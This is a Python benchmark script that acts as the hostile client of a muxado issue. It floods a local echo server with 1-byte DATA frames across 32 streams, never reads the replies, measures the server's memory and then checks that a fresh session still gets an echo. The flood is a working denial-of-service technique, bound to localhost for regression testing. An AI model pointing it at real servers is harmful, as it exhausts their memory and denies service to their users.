#!/usr/bin/env python3
"""attack_small_frames.py - the hostile client of issue 8, for measuring by hand.

Opens 32 streams against a muxado echo server and sends each stream's whole
256 KiB window as 1-byte DATA frames (9 wire bytes per payload byte), never
reading the echo. Prints the server's resident memory (from /proc) every MB
of wire bytes, then checks that a fresh, well-behaved session is still echoed.

    build/muxcat -l -e -k 7000 & python3 bench/attack_small_frames.py 7000 $!

127.0.0.1 only. Exit status 0 when the fresh session was echoed, 1 otherwise.
"""
import socket
import struct
import sys
import time

STREAMS = 32
WINDOW = 256 * 1024
ROUNDS_PER_SEND = 64
DATA, SYN = 1, 2


def frame(stream_id, flags, payload):
    head = struct.pack(">I", (len(payload) << 8) | (DATA << 4) | flags)
    return head + struct.pack(">I", stream_id) + payload


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) // 1024
    return -1


def flood(port, pid):
    ids = [3 + 2 * i for i in range(STREAMS)]
    conn = socket.create_connection(("127.0.0.1", port))
    conn.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    conn.settimeout(10)
    conn.sendall(b"".join(frame(i, SYN, b"x") for i in ids))
    block = b"".join(frame(i, 0, b"y") for i in ids) * ROUNDS_PER_SEND
    wire, sent, peak, next_report = 0, 1, 0, 1 << 20
    while sent + ROUNDS_PER_SEND <= WINDOW:
        try:
            conn.sendall(block)
        except socket.timeout:
            print("send stalled: the server stopped reading", flush=True)
            break
        wire += len(block)
        sent += ROUNDS_PER_SEND
        if wire >= next_report:
            peak = max(peak, rss_mib(pid))
            next_report += 1 << 20
            print(f"wire {wire / 1e6:.1f} MB  rss {rss_mib(pid)} MiB",
                  flush=True)
    time.sleep(1)
    peak = max(peak, rss_mib(pid))
    print(f"done: {wire / 1e6:.1f} MB on the wire, {sent} bytes per stream, "
          f"peak rss {peak} MiB", flush=True)
    return conn


def fresh_session_echoed(port):
    conn = socket.create_connection(("127.0.0.1", port))
    conn.settimeout(5)
    conn.sendall(frame(3, SYN, b"hello"))
    got = b""
    try:
        while b"hello" not in got:
            chunk = conn.recv(100)
            if not chunk:
                break
            got += chunk
    except socket.timeout:
        pass
    return b"hello" in got


def main():
    if len(sys.argv) != 3:
        sys.exit("usage: attack_small_frames.py PORT SERVER_PID")
    port, pid = int(sys.argv[1]), int(sys.argv[2])
    hostile = flood(port, pid)
    ok = fresh_session_echoed(port)
    print("fresh session:", "echoed" if ok else "NO ECHO within 5 s")
    print(f"final rss {rss_mib(pid)} MiB")
    hostile.close()
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
